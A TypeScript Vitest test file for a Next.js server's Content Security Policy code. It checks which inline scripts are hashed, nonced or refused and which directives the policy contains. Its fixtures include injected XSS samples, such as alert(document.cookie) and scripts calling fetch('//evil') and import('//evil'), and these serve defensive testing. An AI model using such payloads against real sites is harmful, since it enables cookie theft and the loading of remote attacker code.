import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import {
  htmlContentSecurityPolicy,
  isFrameworkDataScript,
  reviewInlineScripts,
} from '@/server/http/content-security-policy';

const sha = (body: string) => `'sha256-${createHash('sha256').update(body).digest('base64')}'`;
const flight = 'self.__next_f.push([1,"1:\\"$Sreact.fragment\\"\\n<\\/script>"])';
const bootstrap = '(self.__next_f=self.__next_f||[]).push([0])';
const turbopack =
  '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["a.js"],"runtimeModuleIds":[1]});';

describe('reviewInlineScripts', () => {
  it("hashes the framework's own data scripts and nothing else", () => {
    const html = [
      '<script src="/_next/static/chunks/a.js" async=""></script>',
      `<script id="_R_">${turbopack}</script>`,
      `<script>${bootstrap}</script>`,
      `<script>${flight}</script>`,
      '<script type="application/ld+json">{"@context":"https://schema.org"}</script>',
    ].join('');
    const review = reviewInlineScripts(html, { renderNonce: 'n0nce', policyNonce: 'n0nce' });
    expect(review.hashes.sort()).toEqual([sha(turbopack), sha(bootstrap), sha(flight)].sort());
    expect(review.refused).toBe(0);
  });

  it('refuses injected scripts, including ones dressed up as framework data', () => {
    const injected = [
      '<script>alert(1)</script>',
      '<script>self.__next_f.push([1]);alert([1])</script>',
      '<script>self.__next_f.push([1,"x"]);fetch("//evil")</script>',
      '<script type="module">import("//evil")</script>',
      '<SCRIPT>alert(document.cookie)</SCRIPT >',
      '<script nonce="guessed">alert(1)</script>',
    ].join('');
    const review = reviewInlineScripts(injected, { renderNonce: 'real-nonce', policyNonce: '' });
    expect(review.hashes).toEqual([]);
    expect(review.refused).toBe(6);
  });

  it('leaves scripts that carry this response’s nonce to the nonce', () => {
    const review = reviewInlineScripts('<script nonce="abc">$RC("B:0","S:0")</script>', {
      renderNonce: 'abc',
      policyNonce: 'abc',
    });
    expect(review).toEqual({ hashes: [], refused: 0 });
  });

  it('hashes every script of a shared page that carries its render’s nonce, whatever its shape', () => {
    // React's Suspense scripts: a definition, then calls; trusted because the render wrote them.
    const reveal = '$RC=function(b,c){var a=document.getElementById(b);a&&a.remove()};$RC("B:0","S:0")';
    const html = [
      `<script nonce="render-1">${reveal}</script>`,
      `<script nonce="render-1">${flight}</script>`,
      '<script nonce="render-0">alert("a nonce of another render")</script>',
      '<script>$RC=function(){fetch("//evil")};$RC()</script>',
    ].join('');
    const review = reviewInlineScripts(html, { renderNonce: 'render-1', policyNonce: '' });
    expect(review.hashes.sort()).toEqual([sha(reveal), sha(flight)].sort());
    expect(review.refused).toBe(2);
  });

  it('accepts exactly the shapes Next.js writes', () => {
    expect(isFrameworkDataScript(bootstrap)).toBe(true);
    expect(isFrameworkDataScript(flight)).toBe(true);
    expect(isFrameworkDataScript(turbopack)).toBe(true);
    expect(isFrameworkDataScript('self.__next_f.push(alert(1))')).toBe(false);
    expect(isFrameworkDataScript(`${bootstrap};alert(1)`)).toBe(false);
  });
});

describe('htmlContentSecurityPolicy', () => {
  const directives = (policy: string) =>
    new Map(policy.split('; ').map((directive) => [directive.split(' ')[0], directive] as const));

  it('allows no inline script without a nonce or hash, and no plugins, base changes or framing', () => {
    const policy = directives(htmlContentSecurityPolicy({ nonce: 'n', hashes: ["'sha256-x'"], https: false }));
    expect(policy.get('script-src')).toBe("script-src 'self' 'nonce-n' 'sha256-x'");
    expect(policy.get('object-src')).toBe("object-src 'none'");
    expect(policy.get('base-uri')).toBe("base-uri 'none'");
    expect(policy.get('frame-ancestors')).toBe("frame-ancestors 'none'");
    expect(policy.has('upgrade-insecure-requests')).toBe(false);
  });

  it('upgrades requests over https and allows the media origin', () => {
    const policy = directives(
      htmlContentSecurityPolicy({ nonce: 'n', hashes: [], https: true, mediaOrigin: 'https://cdn.example.in' }),
    );
    expect(policy.has('upgrade-insecure-requests')).toBe(true);
    expect(policy.get('img-src')).toContain('https://cdn.example.in');
  });
});
